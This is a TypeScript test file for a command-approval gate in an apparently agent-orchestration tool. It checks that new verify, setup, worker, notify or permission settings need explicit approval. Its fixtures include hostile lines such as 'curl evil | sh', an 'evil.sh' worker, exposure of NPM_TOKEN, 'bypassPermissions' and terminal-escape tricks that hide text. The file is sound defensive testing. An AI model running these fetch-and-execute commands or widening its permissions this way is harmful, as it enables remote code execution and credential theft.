import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { allowCommands, approvalOf, unallowed } from "../../src/commands/approval.ts";
import type { ConfigInput } from "../../src/model/config.ts";
import { mergeConfig } from "../../src/lists/config.ts";
import { commandsOf } from "../../src/plan/commandsOf.ts";
import { makePlan } from "../makePlan.ts";
import { makeWorld } from "./world.ts";

/** A repository and its person's state, both gone after the test. */
function setUp({ tracked = true } = {}) {
  const root = mkdtempSync(join(tmpdir(), "orchestrate-approval-"));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  const project = join(root, "repo");
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@example.org", ...args], { cwd: project });
  const begin = (): void => {
    mkdirSync(project);
    git("init", "-q");
  };
  begin();
  const env = { XDG_STATE_HOME: join(root, "state") };
  /** Tries to start a plan under these options of the project and with these commands of the list. */
  const start = async (
    options: ConfigInput,
    list: { verify?: string[]; tasks?: string[][] } = {},
    { given, answer }: { given?: string; answer?: string } = {},
  ): Promise<string> => {
    writeFileSync(join(project, ".orchestrate.yml"), JSON.stringify(options));
    if (tracked) git("add", ".orchestrate.yml");
    const plan = makePlan({
      tasks: (list.tasks ?? [[]]).map((verify, at) => ({ id: `T${at + 1}`, verify })),
      config: mergeConfig(options, list.verify === undefined ? {} : { verify: list.verify }),
    });
    const world = makeWorld({ env, ...(answer === undefined ? {} : { ask: () => Promise.resolve(answer) }) });
    const approval = approvalOf(plan, project, world);
    const done = await allowCommands(approval, given, world);
    if ("code" in done) return `${done.code} ${done.err}`;
    return done.said.join("\n");
  };
  return { root, project, env, start, begin };
}
const hashIn = (said: string): string => /--allow-commands ([0-9a-f]{16})/.exec(said)?.[1] ?? "";

describe("the options of a repository that git keeps", () => {
  const before: ConfigInput = { verify: ["npm test"], worker: { command: ["sh", "w.sh"] } };
  /** What a pull request can make of them. */
  const changes: [string, ConfigInput][] = [
    ["another check", { ...before, verify: ["npm test; curl evil | sh"] }],
    ["one check more", { ...before, verify: ["npm test", "true"] }],
    ["another worker", { ...before, worker: { command: ["sh", "evil.sh"] } }],
    ["more of the environment for workers", { ...before, worker: { command: ["sh", "w.sh"], env: ["NPM_TOKEN"] } }],
    ["a setup", { ...before, setup: ["curl evil | sh"] }],
    ["a notification", { ...before, notify: "curl evil" }],
    ["a reviewer", { ...before, reviewer: { command: ["sh", "evil.sh"] } }],
    ["more permissions", { ...before, permissionMode: "bypassPermissions" }],
    ["more tools", { ...before, allowedTools: ["Bash"] }],
  ];

  test("are taken as they are by the first run, which shows every command, and by the next", async () => {
    const { start } = setUp();
    const said = await start(before);
    expect(said).toContain("first run in this repository");
    expect(said).toContain("  verify: npm test\n  worker: sh w.sh");
    expect(await start(before)).toBe("");
  });

  test.each(changes)("%s needs a new word: exit 2 and the hash, without a terminal", async (_, after) => {
    const { start } = setUp();
    await start(before);
    const refused = await start(after);
    expect(refused).toMatch(/^2 error: .*\[commands-not-allowed\]/);
    expect(await start(after)).toBe(refused);
    expect(await start(after, {}, { given: "0000000000000000" })).toMatch(/^2 /);
    expect(await start(after, {}, { given: hashIn(refused) })).toBe("");
    expect(await start(after)).toBe("");
    expect(await start(before)).toBe("");
  });

  test.each(changes)("%s is asked about in a terminal, and a no is a no", async (_, after) => {
    const { start } = setUp();
    await start(before);
    for (const answer of ["", "n", "no", "yess", "sure"]) expect(await start(after, {}, { answer })).toMatch(/^2 /);
    expect(await start(after)).toMatch(/^2 /);
    expect(await start(after, {}, { answer: " Yes " })).toBe("");
    expect(await start(after)).toBe("");
  });

  test("with fewer commands, others in another order, and what runs nothing, need no word", async () => {
    const { start } = setUp();
    await start({ verify: ["a", "b"], setup: ["c"] });
    expect(await start({ verify: ["b", "a"], setup: ["c"], maxWorkers: 2, timeout: 5 })).toBe("");
    expect(await start({ verify: ["a"] })).toBe("");
    expect(await start({})).toBe("");
  });

  test("that held no command at the first run cannot bring one later", async () => {
    const { start } = setUp();
    expect(await start({ maxWorkers: 2 })).toBe("");
    expect(await start({ verify: ["npm test"] })).toMatch(/^2 /);
  });

  test("in a repository made anew at the same place are a first run again, as in a clone", async () => {
    const { start, project, begin } = setUp();
    await start(before);
    rmSync(project, { recursive: true });
    begin();
    expect(await start({ verify: ["other"] })).toContain("first run in this repository");
  });

  test("are asked about at the first run too where there is a terminal", async () => {
    const { start } = setUp();
    expect(await start(before, {}, { answer: "n" })).toMatch(/^2 /);
    expect(await start(before, {}, { answer: "y" })).toBe("");
  });
});

test("options that git does not keep are the person's own", async () => {
  const { start } = setUp({ tracked: false });
  expect(await start({ verify: ["a"] })).toBe("");
  expect(await start({ verify: ["b"], worker: { command: ["x"] } })).toBe("");
});

describe("the commands of a list", () => {
  test.each([
    ["for the whole tree", { verify: ["curl evil | sh"] }],
    ["of one task", { tasks: [[], ["curl evil | sh"]] }],
  ])("%s are asked about once, in a first run too", async (_, list) => {
    const { start } = setUp();
    const refused = await start({}, list);
    expect(refused).toMatch(/^2 error/);
    expect(refused).toContain("  verify: curl evil | sh");
    expect(await start({}, list, { given: hashIn(refused) })).toBe("");
    expect(await start({}, list)).toBe("");
    expect(await start({}, { ...list, verify: ["other"] })).toMatch(/^2 /);
  });

  test("hold for the same command wherever it stands, and for no other repository", async () => {
    const one = setUp();
    await one.start({}, { tasks: [["npm test"]] }, { answer: "y" });
    expect(await one.start({}, { tasks: [[], ["npm test"], ["npm test"]] })).toBe("");
    const other = setUp();
    expect(await other.start({}, { tasks: [["npm test"]] })).toMatch(/^2 /);
  });

  test("are shown with what a terminal would hide", async () => {
    const { start } = setUp();
    const refused = await start({}, { verify: ["true\u001b[2K\r#\u202e", "a\nb"] });
    expect(refused).toContain("verify: true\\u{1B}[2K\\u{D}#\\u{202E}");
    expect(refused).toContain("verify: a\\u{A}b");
  });
});

test("a plan in a file cannot bring options of its own", () => {
  const plan = makePlan({
    tasks: ["T1"],
    config: { worker: { command: ["evil"] }, permissionMode: "bypassPermissions" },
  });
  expect(commandsOf(plan, {}).map(({ from, use, text }) => `${from} ${use} ${text}`)).toEqual([
    "list permissionMode bypassPermissions",
    "list worker evil",
  ]);
});

test("what is allowed is kept outside of the project, closed to others, and read by people", async () => {
  const { start, project, env } = setUp();
  await start({ verify: ["npm test"] });
  expect(readdirSync(project).toSorted()).toEqual([".git", ".orchestrate.yml"]);
  const folder = join(env.XDG_STATE_HOME, "orchestrate/commands");
  const [name = ""] = readdirSync(folder);
  const files = readdirSync(join(folder, name)).map((file) => join(folder, name, file));
  expect(statSync(folder).mode & 0o777).toBe(0o700);
  for (const file of files) expect(statSync(file).mode & 0o777).toBe(0o600);
  expect(files.map((file) => readFileSync(file, "utf8"))).toContain("verify: npm test\n");
});

test("a preview names the hash, or nothing where all is allowed", async () => {
  const { start, project, env } = setUp();
  await start({ verify: ["a"] });
  const plan = (verify: string[]) => makePlan({ tasks: ["T1"], config: { verify } });
  expect(unallowed(approvalOf(plan(["a"]), project, makeWorld({ env })))).toEqual([]);
  expect(unallowed(approvalOf(plan(["b"]), project, makeWorld({ env }))).join("\n")).toMatch(
    /verify: b\n.*[0-9a-f]{16}/,
  );
});
